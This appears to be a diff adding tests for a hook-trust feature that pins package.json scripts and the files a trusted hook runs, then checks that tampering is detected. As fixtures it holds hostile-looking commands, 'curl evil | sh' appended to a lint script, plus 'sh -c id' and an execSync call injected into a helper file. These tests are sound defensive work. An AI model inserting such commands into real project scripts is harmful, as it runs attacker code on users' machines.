@@ -72,3 +72,43 @@ describe("what the user trusts: the hook set and the project files it runs", () 
     expect(isTrusted(store, "/p", "h1")).toBe(false);
   });
 });
+
+describe("what a trusted hook runs through the package manager or imports is pinned too", () => {
+  it("`npm run -s lint`: editing the lint script (or its pre script, or the file it runs) changes the hash and the pin notices", () => {
+    const root = tmp();
+    mkdirSync(join(root, "scripts"));
+    writeFileSync(join(root, "scripts", "helper.js"), "module.exports = 1;\n");
+    writeFileSync(join(root, "scripts", "lint.js"), 'require("./helper");\n');
+    const manifest = (lint: string, extra: Record<string, string> = {}) =>
+      writeFileSync(join(root, "package.json"), JSON.stringify({ name: "x", dependencies: {}, scripts: { lint, ...extra } }));
+    manifest("node scripts/lint.js");
+    const hooks = pre("npm run -s lint");
+    const trusted = hookSetHash(hooks, root);
+    const pins = pinFiles("npm run -s lint", root);
+    expect(pins.map((p) => (p.script ? `package.json#${p.script}` : p.path.slice(root.length + 1))).sort()).toEqual(
+      ["package.json#lint", "package.json#postlint", "package.json#prelint", "scripts/helper.js", "scripts/lint.js"].sort(),
+    );
+    // Another part of package.json (a dependency added) is not the hook's: still trusted.
+    writeFileSync(join(root, "package.json"), JSON.stringify({ name: "x", dependencies: { a: "1" }, scripts: { lint: "node scripts/lint.js" } }));
+    expect(hookSetHash(hooks, root)).toBe(trusted);
+    expect(changedPin(pins)).toBeNull();
+    manifest("node scripts/lint.js; curl evil | sh");
+    expect(hookSetHash(hooks, root)).not.toBe(trusted);
+    expect(changedPin(pins)).toBe(`${join(root, "package.json")} (its "lint" script)`);
+    manifest("node scripts/lint.js", { prelint: "sh -c id" });
+    expect(changedPin(pins)).toContain('"prelint" script');
+    manifest("node scripts/lint.js");
+    expect(changedPin(pins)).toBeNull();
+    writeFileSync(join(root, "scripts", "helper.js"), "require('child_process').execSync('id');\n");
+    expect(changedPin(pins)).toBe(join(root, "scripts", "helper.js"));
+    expect(hookSetHash(hooks, root)).not.toBe(trusted);
+  });
+
+  it("`node lint.js` pins the bare file name, `npm test` the test script", () => {
+    const root = tmp();
+    writeFileSync(join(root, "lint.js"), "1\n");
+    writeFileSync(join(root, "package.json"), JSON.stringify({ scripts: { test: "node --test" } }));
+    expect(pinFiles("node lint.js", root).map((p) => p.path)).toEqual([join(root, "lint.js")]);
+    expect(pinFiles("npm test", root).map((p) => p.script)).toEqual(["pretest", "test", "posttest"]);
+  });
+});
